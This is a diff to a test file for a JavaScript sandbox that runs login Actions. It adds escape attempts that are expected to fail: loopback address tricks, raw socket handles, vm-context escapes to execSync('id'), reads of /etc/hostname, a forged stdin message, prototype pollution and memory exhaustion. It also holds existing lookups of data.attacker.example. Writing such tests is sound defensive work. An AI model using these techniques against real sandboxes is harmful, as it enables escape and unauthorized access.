@@ -116,6 +116,91 @@ const ATTEMPTS: [name: string, code: string, seen: RegExp][] = [
     `await new Promise((yes, no) => { const u = require('dgram').createSocket('udp4'); u.on('error', no); u.send('x', 53, '127.0.0.1', (e) => e ? no(e) : yes('sent')); })`,
     /EACCES/,
   ],
+  [
+    'a redirect of the sandbox',
+    `(await fetch('http://' + event.request.hostname + '/v2/logout?client_id=' + event.client.client_id + '&returnTo=' + encodeURIComponent(ELSEWHERE))).status`,
+    /fetch failed.*EACCES/,
+  ],
+  [
+    'an address spelled otherwise',
+    `(await fetch('http://0x7f.1:' + new URL(ELSEWHERE).port)).status`,
+    /fetch failed.*EACCES/,
+  ],
+  [
+    'an IPv4 address in IPv6',
+    `await new Promise((yes, no) => require('net').connect(Number(new URL(ELSEWHERE).port), '::ffff:127.0.0.1', yes).on('error', no))`,
+    /EACCES/,
+  ],
+  [
+    'HTTP/2',
+    `await new Promise((yes, no) => require('http2').connect(ELSEWHERE).on('connect', yes).on('error', no))`,
+    /EACCES/,
+  ],
+  [
+    'a handle made by hand',
+    `(() => { const s = new (require('net').Socket)(); s.on('error', () => {}); s.connect(1, '127.0.0.1'); const h = new s._handle.constructor(0); return [h.open(3), h.connect({}, '127.0.0.1', Number(new URL(ELSEWHERE).port))].join(); })()`,
+    /^-13,-13$/,
+  ],
+  [
+    'hooks of modules, which have a thread of their own',
+    `require('module').register('data:text/javascript,' + encodeURIComponent('import http from "node:http"; http.get("' + ELSEWHERE + '")'))`,
+    /ERR_ACCESS_DENIED/,
+  ],
+  ['a session of the inspector', `new (require('inspector').Session)().connect()`, /ERR_ACCESS_DENIED/],
+  [
+    'a file of environment variables',
+    `process.loadEnvFile('/etc/hostname')`,
+    /ERR_ACCESS_DENIED|not a function/,
+  ],
+  ['a temporary folder', `require('fs').mkdtempSync('/tmp/escaped-')`, /ERR_ACCESS_DENIED/],
+  ['copying a folder', `require('fs').cpSync('/etc/hostname', '/tmp/escaped')`, /ERR_ACCESS_DENIED/],
+  [
+    'a path in bytes',
+    `require('fs').readFileSync(new TextEncoder().encode('/etc/hostname'))`,
+    /ERR_ACCESS_DENIED/,
+  ],
+  ['watching a file', `require('fs').watch('/etc')`, /ERR_ACCESS_DENIED/],
+  [
+    'another context',
+    `require('vm').runInNewContext('this.constructor.constructor("return process")().binding("fs")')`,
+    /ERR_ACCESS_DENIED|process is not defined/,
+  ],
+  [
+    'an import of another context',
+    `(await require('vm').runInThisContext("import('node:child_process')", { importModuleDynamically: require('vm').constants?.USE_MAIN_CONTEXT_DEFAULT_LOADER })).execSync('id')`,
+    /ERR_ACCESS_DENIED|ERR_VM/,
+  ],
+  [
+    'an import of text',
+    `(await import('data:text/javascript,export default 1')).default`,
+    /ERR_VM|dynamic import/,
+  ],
+  ['the loader of the main module', `process.mainModule.require('/etc/hostname')`, /ERR_ACCESS_DENIED/],
+  [
+    'the constructor of the module',
+    `module.constructor._load?.('child_process').execSync('id')`,
+    /^undefined$/,
+  ],
+  [
+    'functions on the stack',
+    `(() => { Error.prepareStackTrace = (_e, frames) => frames; const { stack } = new Error(); Error.prepareStackTrace = undefined; return stack.filter((frame) => !String(frame.getFileName()).endsWith('action.js')).map((frame) => typeof frame.getFunction() + typeof frame.getThis()).join(); })()`,
+    /^(undefinedundefined,?)+$/,
+  ],
+  [
+    'orders in the name of the sandbox',
+    `(() => { const more = JSON.stringify({ load: { kind: 'action', code: '', methods: [], modules: {}, dependencies: {}, network: true, sandbox: { host: 'x', port: Number(new URL(ELSEWHERE).port), innerPort: Number(new URL(ELSEWHERE).port) } } }); try { process.stdin.emit('data', Buffer.from(more + '\\n')); } catch (e) { return e.message; } return 'taken'; })() + await fetch(ELSEWHERE).catch((e) => ' ' + e.cause.code)`,
+    /Cannot redefine.*EACCES/,
+  ],
+  [
+    'names of prototypes',
+    `(api.user.setAppMetadata('__proto__', { polluted: 1 }), api.idToken.setCustomClaim('__proto__', { polluted: 1 }), api.transaction.setMetadata('__proto__', 1), api.cache.set('__proto__', 'x'), ({}).polluted ?? 'clean')`,
+    /^clean$/,
+  ],
+  [
+    'dates without end',
+    `(api.session.setExpiresAt(1e300), api.session.setIdleExpiresAt(NaN), api.refreshToken.setExpiresAt(-1e300), 'set')`,
+    /^set$/,
+  ],
   ['a name', `await require('dns').promises.lookup('data.attacker.example')`, /out of reach/],
   ['a name in fetch', `await fetch('http://data.attacker.example/')`, /fetch failed/],
   [
@@ -151,6 +236,9 @@ beforeAll(async () => {
     actions: { budgetMs: 20_000, limits: { heapMb: 48, residentMb: 256 } },
   });
   person = await tenant.person();
+  await tenant.client.api('PATCH', `/clients/${tenant.app.client_id}`, {
+    allowed_logout_urls: [`http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/`],
+  });
   well = await tenant.deploy(
     'post-login',
     `exports.onExecutePostLogin = async (event, api) => api.idToken.setCustomClaim('well', true)`,
@@ -194,6 +282,17 @@ describe('an Action cannot take everything', () => {
       /too much memory/,
     ],
     ['calls of api', `for (;;) api.idToken.setCustomClaim('x', 1)`, /too many calls/],
+    [
+      'memory of WebAssembly',
+      `const all = []; for (;;) { const m = new WebAssembly.Memory({ initial: 512 }); new Uint8Array(m.buffer).fill(1); all.push(m); await new Promise((r) => setTimeout(r, 20)); }`,
+      /too much memory/,
+    ],
+    [
+      'a rejection that nobody handles',
+      `Promise.reject(new Error('left alone')); await new Promise(() => {})`,
+      /left alone/,
+    ],
+    ['the end below exit', `process.reallyExit(0)`, /process of the Action ended/],
     ['the end of its process', `process.exit(0)`, /process of the Action ended/],
     ['an abort', `process.abort()`, /process of the Action ended/],
     ['a value that does not end', `api.idToken.setCustomClaim('x', 'y'.repeat(6e6))`, /answered too much/],
@@ -229,6 +328,7 @@ describe('an Action cannot take everything', () => {
   it.each([
     ['an endless loop', 'for (;;);'],
     ['an answer that never comes', 'await new Promise(() => {})'],
+    ['a wait on shared memory', 'Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0)'],
     ['a promise that chases its tail', 'for (;;) await null'],
   ])('not the time: %s ends with the budget', async (_name, body) => {
     await tenant.postLogin([`await fetch('http://' + event.request.hostname + '/started'); ${body}`]);
